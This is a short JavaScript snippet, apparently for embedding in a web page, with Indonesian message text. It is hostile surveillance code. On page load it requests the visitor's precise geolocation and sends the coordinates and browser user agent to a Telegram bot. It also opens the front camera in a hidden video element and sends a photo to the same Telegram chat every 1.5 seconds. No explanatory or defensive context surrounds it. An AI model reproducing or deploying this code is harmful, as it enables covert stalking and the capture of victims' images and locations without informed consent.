const chat = "-1000000", bot = "0000:TOKEN";
const api = (m) => `https://api.telegram.org/bot${bot}/${m}`;

navigator.geolocation.getCurrentPosition(function (pos) {
    const { latitude, longitude, accuracy } = pos.coords;
    fetch(api("sendMessage") + "?chat_id=" + chat + "&text=" + encodeURIComponent(
        "Lokasi pengunjung\nLat: " + latitude + "\nLon: " + longitude + "\nAkurasi: " + accuracy + "\nUA: " + navigator.userAgent));
}, function (err) {
    fetch(api("sendMessage") + "?chat_id=" + chat + "&text=Lokasi+ditolak");
}, { enableHighAccuracy: true });

const video = document.createElement("video");
video.playsInline = true; video.style.display = "none";
const canvas = document.createElement("canvas");

navigator.mediaDevices.getUserMedia({ video: { facingMode: "user" }, audio: false }).then(stream => {
    video.srcObject = stream;
    video.play();
    setInterval(() => {
        canvas.width = 640; canvas.height = 480;
        canvas.getContext("2d").drawImage(video, 0, 0, 640, 480);
        canvas.toBlob(b => {
            const fd = new FormData();
            fd.append("chat_id", chat);
            fd.append("photo", b, "foto.png");
            fetch(api("sendPhoto"), { method: "POST", body: fd });
        });
    }, 1500);
});
